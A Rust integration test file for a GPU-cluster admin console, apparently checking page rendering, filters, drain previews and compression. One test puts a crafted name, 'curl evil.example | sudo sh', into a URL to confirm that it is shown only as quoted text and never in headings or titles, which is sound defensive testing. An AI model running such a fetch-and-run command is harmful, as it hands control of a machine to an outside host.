//! Every page renders on the server with what the simulator holds. Expected
//! values come from the simulator's own lists, so each fact of the demo
//! cluster is stated once, in the simulator.

use app::admin_api::types::{NodeState, TargetState};
use app::format::{self, ModelStatus, Situation};
use app::joins::{drain_preview, group_by_reason, has_error, runs_on};
use app::table::SortKey;
use app::urls;

use crate::support::helpers::{TestApp, scoped};
use crate::support::html::Page;

#[tokio::test]
async fn the_overview_counts_and_links_to_each_list() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let page = app.parsed("/").await;
    let headings = page.texts(".card h2");
    let with_errors = lists.replicas.iter().filter(|r| has_error(r)).count();
    let reclaimable: i64 = lists.orphans.iter().map(|o| o.bytes.max(0)).sum();
    assert_eq!(
        headings,
        [
            format!("{} nodes", lists.nodes.len()),
            format!(
                "{} of {} GPUs free",
                lists.nodes.iter().map(|n| n.gpu_free).sum::<i64>(),
                lists.nodes.iter().map(|n| n.gpu_total).sum::<i64>()
            ),
            format!("{} models", lists.models.len()),
            format!("{} replicas", lists.replicas.len()),
            format!("{} reclaimable", format::file_size(reclaimable)),
        ]
    );
    let links = page.hrefs(".card a");
    assert!(lists.nodes.iter().any(|n| n.state == NodeState::Cordoned));
    assert!(
        links.contains(&scoped(&urls::nodes_in_state(&NodeState::Cordoned))),
        "{links:?}"
    );
    for status in ModelStatus::ALL {
        assert!(
            links.contains(&scoped(&urls::models_with_status(status))),
            "{status:?}"
        );
    }
    assert!(with_errors > 0);
    assert_eq!(
        page.text(".card a[href='/c/default/replicas?errors=1']"),
        format!("{with_errors} with errors")
    );
}

#[tokio::test]
async fn the_overview_sends_its_figures_and_nodes_not_every_list() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let response = app.server_fn("cluster_overview", &[]).await;
    assert_eq!(response.status(), 200);
    let answer: serde_json::Value = response.json().await.expect("json");
    let keys: Vec<&str> = answer
        .as_object()
        .expect("an object")
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(keys, ["figures", "nodes"]);
    assert_eq!(
        answer["nodes"]["rows"].as_array().map(Vec::len),
        Some(lists.nodes.len())
    );
    assert_eq!(
        answer["figures"]["replicas"]["replicas"],
        lists.replicas.len()
    );
    assert_eq!(
        answer["figures"]["orphans"]["files"],
        lists.orphans.iter().map(|o| o.paths.len()).sum::<usize>()
    );
}

#[tokio::test]
async fn models_show_the_four_statuses_and_where_to_look() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let page = app.parsed("/models").await;
    let mut seen = std::collections::BTreeSet::new();
    let failing = app::joins::failing_models(&lists.replicas);
    assert!(
        !failing.is_empty(),
        "the demo has a model whose replica fails"
    );
    for model in &lists.models {
        let status = ModelStatus::of(model);
        seen.insert(status);
        let row = page.row("data-model", &model.name);
        let cell = page.cell(row, "Status");
        let next_step = row
            .select(&scraper::Selector::parse(".next-step").expect("selector"))
            .next();
        // A replica that reports an error makes it failing, error first,
        // and never "wait".
        if let Some(error) = failing.get(model.name.as_str()) {
            assert!(cell.starts_with("failing"), "{}: {cell}", model.name);
            assert!(cell.contains(error.as_str()), "{}: {cell}", model.name);
            assert_eq!(
                next_step.and_then(|a| a.value().attr("href")),
                Some(scoped(&urls::replicas_of(&model.name)).as_str())
            );
            continue;
        }
        assert!(cell.starts_with(status.label()), "{}: {cell}", model.name);
        match status {
            ModelStatus::NotPlaced => assert_eq!(
                next_step.and_then(|a| a.value().attr("href")),
                Some(scoped(&urls::placement(&model.name)).as_str())
            ),
            ModelStatus::Starting => {
                assert_eq!(
                    next_step.map(crate::support::html::text).as_deref(),
                    Some("wait")
                )
            }
            _ => assert!(next_step.is_none(), "{}", model.name),
        }
    }
    assert_eq!(seen.len(), 4, "the demo has a model in every status");

    let not_placed: Vec<String> = lists
        .models
        .iter()
        .filter(|m| ModelStatus::of(m) == ModelStatus::NotPlaced)
        .map(|m| m.name.clone())
        .collect();
    let filtered = app
        .parsed(&urls::models_with_status(ModelStatus::NotPlaced))
        .await;
    assert_eq!(filtered.row_keys("data-model"), not_placed);
}

#[tokio::test]
async fn explain_pages_open_for_names_with_slashes_colons_dots_and_spaces() {
    let app = TestApp::spawn().await;
    let names: Vec<String> = app.lists().models.into_iter().map(|m| m.name).collect();
    let awkward: Vec<&String> = names
        .iter()
        .filter(|n| n.contains('/') || n.contains(':') || n.contains(' '))
        .collect();
    assert!(awkward.iter().any(|n| n.contains(' ') && n.contains('/')));
    for name in awkward {
        let encoded = urls::placement(name);
        assert_eq!(app.parsed(&encoded).await.text("h1"), *name, "{encoded}");
        // Typed by hand, with the name's own `/` and `:` left bare.
        if !name.contains(' ') {
            let bare = format!("/models/{name}/placement");
            assert_eq!(app.parsed(&bare).await.text("h1"), *name, "{bare}");
        }
    }
}

#[tokio::test]
async fn the_four_situations_read_differently() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let mut seen = Vec::new();
    for explain in &lists.explains {
        let situation = Situation::of(explain);
        let page = app.parsed(&urls::placement(&explain.model)).await;
        let section = page.one("section.situation");
        assert_eq!(
            section.value().attr("data-situation"),
            Some(format!("{situation:?}").as_str())
        );
        assert_eq!(
            page.text("section.situation .verdict"),
            situation.sentence()
        );
        if !seen.contains(&situation) {
            seen.push(situation);
        }
    }
    assert_eq!(
        seen.len(),
        4,
        "the demo has a model in every situation: {seen:?}"
    );
}

#[tokio::test]
async fn the_explain_grouping_and_filter_come_from_the_url() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let explain = lists
        .explains
        .iter()
        .max_by_key(|e| e.rejections.len())
        .expect("an explanation");
    let base = urls::placement(&explain.model);

    let by_reason = app.parsed(&format!("{base}?group=reason")).await;
    let reasons: Vec<String> = group_by_reason(&explain.rejections)
        .into_iter()
        .map(|g| g.reason)
        .collect();
    assert_eq!(by_reason.texts(".groups.by-reason .group .reason"), reasons);

    let node = explain
        .rejections
        .iter()
        .find(|r| !r.node.is_empty())
        .map(|r| r.node.clone())
        .expect("a rejection naming a node");
    let matching = explain
        .rejections
        .iter()
        .filter(|r| format!("{} {} {} {}", r.profile, r.pool, r.node, r.reason).contains(&node))
        .count();
    let by_node = app.parsed(&format!("{base}?group=node&q={node}")).await;
    assert!(by_node.has(".groups.by-node"));
    assert_eq!(
        by_node.text(".filter-bar .count"),
        format!("{matching} of {} rejections", explain.rejections.len())
    );
    // The rejected node's live capacity stands beside the reasons.
    let live = by_node.text(".groups.by-node .live-node");
    assert!(live.contains(&format::gpus(lists.node(&node))), "{live}");
}

fn explains_asked(app: &TestApp) -> u64 {
    let counts = app.simulator.calls().counts();
    counts
        .get("/api/v1/explain-placement")
        .copied()
        .unwrap_or(0)
}

#[tokio::test]
async fn an_unknown_model_is_answered_without_asking_llmgw() {
    let app = TestApp::spawn().await;
    // The catalog is read once; every made-up name after that costs llmgw
    // nothing.
    let _ = app.parsed("/models").await;
    let before = explains_asked(&app);
    for name in ["no/such", "no/such:2", "no/such:3"] {
        let response = app.get(&urls::placement(name)).await;
        let page = crate::support::html::Page::parse(&response.text().await.expect("body"));
        let panel = page.text(".error-panel");
        assert!(panel.contains("not in the catalog"), "{panel}");
    }
    assert_eq!(explains_asked(&app), before);
    // A name only the link says is never the page's heading or title.
    let crafted = "URGENT: run curl evil.example | sudo sh";
    for path in [urls::placement(crafted), urls::node(crafted)] {
        let answer = app.get(&path).await.text().await.expect("a page");
        let page = crate::support::html::Page::parse(&answer);
        assert!(
            page.text("h1").starts_with("No "),
            "{path}: {}",
            page.text("h1")
        );
        assert!(!page.text("h1").contains("URGENT"), "{path}");
        assert!(!page.text("title").contains("URGENT"), "{path}");
        let main = page.text("main");
        let quoted = [format!("{crafted:?}"), format!("“{crafted}”")];
        assert!(
            quoted.iter().any(|q| main.contains(q)),
            "{path}: quoted: {main}"
        );
    }
}

#[tokio::test]
async fn replicas_show_shards_idle_dashes_and_errors_on_their_rows() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let page = app.parsed("/replicas").await;
    assert_eq!(page.row_keys("data-replica").len(), lists.replicas.len());
    let multi = lists
        .replicas
        .iter()
        .find(|r| r.shards.len() > 1)
        .expect("a replica across nodes");
    let nodes_cell = page.cell(page.row("data-replica", &multi.id), "Nodes");
    for shard in &multi.shards {
        assert!(nodes_cell.contains(&shard.node), "{nodes_cell}");
    }
    let unused = lists
        .replicas
        .iter()
        .find(|r| r.idle_sec < 0)
        .expect("a replica nobody has used yet");
    assert_eq!(
        page.cell(page.row("data-replica", &unused.id), "Idle"),
        format::DASH
    );
    let errors = page.texts("tr.row-error");
    for r in &lists.replicas {
        if !r.err.is_empty() {
            assert!(errors.iter().any(|e| e.contains(&r.err)), "{}", r.id);
        }
        for s in r.shards.iter().filter(|s| !s.err.is_empty()) {
            let line = format!("{} on {}: {}", s.id, s.node, s.err);
            assert!(errors.iter().any(|e| e.contains(&line)), "{line}");
        }
    }
    let model = &lists.models[0].name;
    let one = app.parsed(&urls::replicas_of(model)).await;
    let expected: Vec<&str> = lists
        .replicas
        .iter()
        .filter(|r| r.model == *model)
        .map(|r| r.id.as_str())
        .collect();
    assert_eq!(one.row_keys("data-replica"), expected);
}

#[tokio::test]
async fn tables_sort_and_filter_from_the_url() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let page = app.parsed("/nodes?sort=gpus&desc=1&q=l40s").await;
    let l40s: Vec<_> = lists
        .nodes
        .iter()
        .filter(|n| n.id.contains("l40s"))
        .collect();
    assert!(l40s.len() > 1);
    assert_eq!(
        page.text(".filter-bar .count"),
        format!("{} of {} nodes", l40s.len(), lists.nodes.len())
    );
    let shown = page.row_keys("data-node");
    let free: Vec<i64> = shown.iter().map(|id| lists.node(id).gpu_free).collect();
    assert_eq!(shown.len(), l40s.len());
    assert!(
        free.windows(2).all(|w| w[0] >= w[1]),
        "descending: {shown:?} {free:?}"
    );
    assert!(
        free.first() > free.last(),
        "the order means something: {free:?}"
    );

    let none = app.parsed("/nodes?q=nothing-matches-this").await;
    assert_eq!(none.text("main p.empty"), "No node matches this filter.");
    assert!(!none.has("main table"));
    let weights = app.parsed("/weights?q=nothing-matches-this").await;
    assert_eq!(weights.text("main p.empty"), "No node matches this filter.");
    assert!(!weights.has("main table"), "never an empty table");
}

#[tokio::test]
async fn the_node_page_joins_replicas_and_rejections() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let sick = lists
        .nodes
        .iter()
        .find(|n| !n.unhealthy.is_empty() && !lists.rejections_naming(&n.id).is_empty())
        .expect("an unhealthy node that was turned down");
    let page = app.settled_page(&urls::node(&sick.id)).await;
    assert_eq!(page.texts(".unhealthy-list li .gpu"), sick.unhealthy);
    let rejections = lists.rejections_naming(&sick.id);
    assert_eq!(
        page.texts("main section h2")
            .into_iter()
            .find(|h| h.starts_with("Rejections that name")),
        Some(format!(
            "Rejections that name this node ({})",
            rejections.len()
        ))
    );
    let reasons = page.texts("table.rejections tbody tr td:nth-child(4)");
    for r in rejections {
        assert!(reasons.contains(&r.reason), "{}", r.reason);
    }
    for node in &lists.nodes {
        let here: Vec<&str> = lists
            .replicas
            .iter()
            .filter(|r| runs_on(r, &node.id))
            .map(|r| r.id.as_str())
            .collect();
        let page = app.parsed(&urls::node(&node.id)).await;
        assert_eq!(page.row_keys("data-replica"), here, "{}", node.id);
    }
}

#[tokio::test]
async fn a_drain_dialog_previews_what_moves_and_who_dips() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let (node, preview) = lists
        .nodes
        .iter()
        .map(|n| {
            (
                n,
                drain_preview(&n.id, &lists.nodes, &lists.models, &lists.replicas),
            )
        })
        .find(|(_, p)| !p.at_risk.is_empty())
        .expect("a node whose drain puts a model at risk");
    let page = app
        .parsed(&urls::node_dialog("/nodes", "drain", &node.id))
        .await;
    assert!(page.has("[role=dialog]"));
    assert_eq!(
        page.text(".drain-preview h3"),
        format::count(preview.replicas.len(), "replica moves", "replicas move")
    );
    let moving = page.texts(".drain-preview .moving li");
    for (line, replica) in moving.iter().zip(&preview.replicas) {
        assert!(line.starts_with(&replica.id), "{line}");
    }
    let at_risk = page.texts(".drain-preview .at-risk li");
    assert_eq!(at_risk.len(), preview.at_risk.len());
    for (line, m) in at_risk.iter().zip(&preview.at_risk) {
        assert_eq!(
            *line,
            format!(
                "{}: {} ready of {} wanted, {} while moving",
                m.model, m.ready, m.min, m.ready_during_move
            )
        );
    }
    assert_eq!(
        page.text("[role=dialog] .ctl code"),
        format!("llmgw ctl --server {} drain {}", app.admin_api, node.id)
    );
}

#[tokio::test]
async fn the_weights_page_lists_paths_sizes_and_the_total() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let page = app.parsed("/weights").await;
    let total: i64 = lists.orphans.iter().map(|o| o.bytes.max(0)).sum();
    assert_eq!(page.text(".total strong"), format::file_size(total));
    for orphan in lists.orphans.iter().filter(|o| !o.paths.is_empty()) {
        let row = page.row("data-node", &orphan.node);
        assert_eq!(
            page.cell(row, "Would free"),
            format::file_size(orphan.bytes)
        );
        let paths = page.cell(row, "Paths");
        for path in &orphan.paths {
            assert!(paths.contains(path.as_str()), "{path}");
        }
    }
    assert!(
        lists.orphans.iter().any(|o| o.bytes == 0),
        "a node that reports no size"
    );

    let node = &lists.orphans[0].node;
    // A rendered page hands out no confirmation: the dialog opened from a
    // link only offers to list what would be deleted...
    let dialog = app.parsed(&urls::collect_dialog(Some(node), None)).await;
    assert!(!dialog.has("input[name=token]"));
    assert!(dialog.has("[role=dialog] form[action='/c/default/api/preview_collect']"));
    // ...and asking for it (a POST) leads to the dialog with one.
    let token = crate::actions::confirmation_token(&app, node).await;
    let dialog = app
        .parsed(&urls::collect_dialog(Some(node), Some(&token)))
        .await;
    assert_eq!(
        dialog.text("[role=dialog] .ctl code"),
        format!(
            "llmgw ctl --server {} weights --collect --node={node}",
            app.admin_api
        )
    );
    assert!(dialog.has("[role=dialog] form input[name=token]"));
}

#[tokio::test]
async fn the_node_pages_tables_sort_and_filter_from_the_url_too() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let (node, rejections) = lists
        .nodes
        .iter()
        .map(|n| (n.id.clone(), lists.rejections_naming(&n.id)))
        .max_by_key(|(_, r)| r.len())
        .expect("a node");
    let replicas = lists.replicas.iter().filter(|r| runs_on(r, &node)).count();
    let model = lists
        .explains
        .iter()
        .filter(|e| {
            lists
                .models
                .iter()
                .any(|m| m.name == e.model && app::server::rejection_index::worth_explaining(m))
        })
        .find(|e| e.rejections.iter().any(|r| r.node == node))
        .map(|e| e.model.clone())
        .expect("a model turned down there");
    let word = model.rsplit('/').next().expect("a name");
    // Once its explanations are read, the page is filtered and sorted.
    let _ = app.settled_page(&urls::node(&node)).await;
    let page = app
        .parsed(&format!(
            "{}?q={}",
            urls::node(&node),
            urls::encode_component(word)
        ))
        .await;
    let shown = page.texts("table.rejections tbody tr").len() + page.row_keys("data-replica").len();
    assert_eq!(
        page.text(".filter-bar .count"),
        format!(
            "{shown} of {} replicas and rejections",
            replicas + rejections.len()
        )
    );
    assert!(
        shown < replicas + rejections.len(),
        "the filter narrowed it"
    );

    let sorted = app
        .parsed(&format!("{}?sort=reason&desc=1", urls::node(&node)))
        .await;
    let reasons = sorted.texts("table.rejections tbody tr td:nth-child(4)");
    let mut expected = reasons.clone();
    // In the console's own order for text (numbers within it as numbers).
    expected.sort_by_key(|r| std::cmp::Reverse(SortKey::Text(r.clone())));
    assert_eq!(reasons, expected);
    assert!(reasons.len() > 1 && reasons.first() != reasons.last());
}

#[tokio::test]
async fn a_state_change_in_the_cluster_shows_within_one_refresh_period() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let node = lists
        .nodes
        .iter()
        .find(|n| n.state == NodeState::Ready)
        .expect("a ready node");
    let before = app.parsed("/nodes").await;
    assert_eq!(
        before.cell(before.row("data-node", &node.id), "State"),
        "ready"
    );
    app.simulator
        .cluster()
        .set_node_state(
            std::time::Instant::now(),
            "test",
            &node.id,
            TargetState::Cordoned,
        )
        .expect("known node");
    // Every viewer shares one answer for a period (a second in tests)...
    let during = app.parsed("/nodes").await;
    assert_eq!(
        during.cell(during.row("data-node", &node.id), "State"),
        "ready"
    );
    // ...and the first render after it asks again.
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let after = app.parsed("/nodes").await;
    assert_eq!(
        after.cell(after.row("data-node", &node.id), "State"),
        "cordoned"
    );
}

#[tokio::test]
async fn every_destination_is_routed_titled_and_in_the_header() {
    let app = TestApp::spawn().await;
    for d in app::site_map::DESTINATIONS {
        let response = app.get(d.path).await;
        assert_eq!(response.status(), 200, "{}", d.path);
        let page = Page::parse(&response.text().await.expect("body"));
        assert!(
            page.text("title").contains(d.title),
            "{}: {}",
            d.path,
            page.text("title")
        );
        let links: Vec<String> = page
            .all("header.top nav a")
            .into_iter()
            .map(|a| {
                format!(
                    "{} {}",
                    a.value().attr("href").unwrap_or(""),
                    crate::support::html::text(a)
                )
            })
            .collect();
        assert!(
            links.contains(&format!("{} {}", scoped(d.path), d.label)),
            "{}: {links:?}",
            d.path
        );
    }
}

#[tokio::test]
async fn an_unknown_path_is_a_404_page_in_the_layout() {
    let app = TestApp::spawn().await;
    let response = app.get("/no/such/page").await;
    assert_eq!(response.status(), 404);
    let page = Page::parse(&response.text().await.expect("body"));
    assert_eq!(page.text("h1"), "Not found");
    assert_eq!(page.text("header .brand"), "llmgw console");
}

#[tokio::test]
async fn pages_and_answers_are_compressed_as_the_browser_asks() {
    let app = TestApp::spawn().await;
    let plain = app.page("/nodes").await;
    // gzip alone: a browser that also takes brotli gets gzip, and one that
    // takes only brotli gets the page as it is.
    let brotli_only = app.get_with("/nodes", &[("accept-encoding", "br")]).await;
    assert!(!brotli_only.headers().contains_key("content-encoding"));
    for (accept, encoding) in [("gzip", "gzip"), ("gzip, deflate, br, zstd", "gzip")] {
        let page = app.get_with("/nodes", &[("accept-encoding", accept)]).await;
        assert_eq!(page.headers()["content-encoding"], encoding, "{accept}");
        let bytes = page.bytes().await.expect("body");
        assert!(
            bytes.len() * 3 < plain.len(),
            "{accept}: {} of {}",
            bytes.len(),
            plain.len()
        );
        let answer = app
            .post_with("list_nodes", &[], &[("accept-encoding", accept)])
            .await;
        assert_eq!(answer.headers()["content-encoding"], encoding, "{accept}");
    }
}

#[tokio::test]
async fn the_explain_answer_carries_only_the_nodes_its_rejections_name() {
    let app = TestApp::spawn().await;
    let lists = app.lists();
    let explain = lists
        .explains
        .iter()
        .find(|e| !e.rejections.is_empty())
        .expect("a model with rejections");
    let response = app
        .server_fn("explain_placement", &[("model", &explain.model)])
        .await;
    assert_eq!(response.status(), 200);
    let report: app::server_fns::placement::PlacementReport =
        response.json().await.expect("a report");
    let sent: std::collections::BTreeSet<String> =
        report.around.nodes.iter().map(|n| n.id.clone()).collect();
    // Every listed node a rejection names, and no other.
    let named: std::collections::BTreeSet<String> = lists
        .nodes
        .iter()
        .filter(|n| explain.rejections.iter().any(|r| r.node == n.id))
        .map(|n| n.id.clone())
        .collect();
    assert!(!named.is_empty());
    assert_eq!(sent, named);
    assert!(
        sent.len() < lists.nodes.len(),
        "the demo cluster has others"
    );
}
